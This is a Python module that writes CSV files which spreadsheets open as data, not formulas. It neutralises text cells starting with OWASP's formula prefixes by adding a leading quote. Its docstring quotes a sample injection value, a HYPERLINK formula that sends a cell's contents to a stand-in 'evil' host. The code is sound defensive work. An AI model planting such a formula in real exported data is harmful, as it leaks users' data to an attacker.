"""CSV that a spreadsheet opens as data, never as formulas (OWASP, "CSV Injection").

A spreadsheet evaluates a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula,
and some also after a leading tab or carriage return; an option label such as
``=HYPERLINK("http://evil/?"&A1, "click")`` in an exported CSV would then run in the
reader's spreadsheet. Every CSV the product writes goes through :func:`writer`, which
prefixes such a **text** cell with a single quote (``'``), so that it is shown as the text
it was, as OWASP recommends; the quote is visible in a plain-text reader.

Text or number is decided by the Python type of the cell, not by its look: a ``str`` is
text and is neutralised when it starts with one of :data:`FORMULA_PREFIXES`; an ``int``
or a ``float`` (``bool`` included) is a number and is written as Python writes it
(``-1.5``, ``1e-05``): a negative number is not a formula and stays a number a
spreadsheet can add up. Callers therefore pass numbers as numbers, never pre-formatted
with ``repr``; ``str(float)`` is ``repr(float)``, so the bytes of a number cell do not
change. ``None`` is an empty cell, as for :func:`csv.writer`.
"""

from __future__ import annotations

import csv
import numbers
from typing import Any, Iterable

__all__ = ["FORMULA_PREFIXES", "cell", "writer", "SafeWriter"]

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
"""The first characters that make a spreadsheet read a cell as a formula (OWASP's list)."""


def cell(value: Any) -> Any:
    """``value`` as a CSV cell that no spreadsheet evaluates: text starting with a formula
    prefix gets a leading ``'``; numbers and ``None`` pass unchanged.

    >>> cell("=HYPERLINK(\\"http://x\\")"), cell("-1"), cell(-1.5), cell("Steel")
    ('\\'=HYPERLINK("http://x")', "'-1", -1.5, 'Steel')
    """
    if value is None or isinstance(value, numbers.Real):
        return value
    text = value if isinstance(value, str) else str(value)
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


class SafeWriter:
    """:func:`csv.writer` whose every cell goes through :func:`cell` first."""

    def __init__(self, out, **kw):
        self._w = csv.writer(out, **kw)

    def writerow(self, row: Iterable[Any]):
        return self._w.writerow([cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out, **kw) -> SafeWriter:
    """A CSV writer over ``out`` (as :func:`csv.writer`) that neutralises formula prefixes."""
    return SafeWriter(out, **kw)
